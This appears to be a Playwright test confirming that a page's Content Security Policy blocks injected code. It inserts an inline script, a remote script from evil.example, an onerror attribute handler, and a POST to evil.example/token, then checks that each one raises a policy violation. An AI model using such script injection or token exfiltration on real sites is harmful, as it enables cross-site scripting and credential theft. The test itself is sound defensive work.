import { expect, test } from '../fixtures.ts';

test('a script that gets into a page neither runs nor speaks to anybody', async ({ page, consoleErrors }) => {
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (violation: string) => violations.push(violation));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      (window as unknown as { reportViolation(text: string): void }).reportViolation(
        `${effectiveDirective} ${blockedURI}`,
      );
    });
  });
  await page.goto('/about');
  await page.evaluate(async () => {
    const script = (properties: Partial<HTMLScriptElement>) =>
      document.body.append(Object.assign(document.createElement('script'), properties));
    script({ text: 'document.body.id = "inline"' });
    script({ src: 'https://evil.example/script.js' });
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="data:," onerror="document.body.id = \'handler\'">',
    );
    await fetch('https://evil.example/token', { method: 'POST' }).catch(() => {});
  });
  await expect
    .poll(() => violations.toSorted())
    .toEqual([
      'connect-src https://evil.example/token',
      'script-src-attr inline',
      'script-src-elem https://evil.example/script.js',
      'script-src-elem inline',
    ]);
  await expect(page.locator('body')).not.toHaveAttribute('id');
  // The browser says each on the console, too.
  for (const error of consoleErrors.splice(0)) expect(error).toContain('Content Security Policy');
});
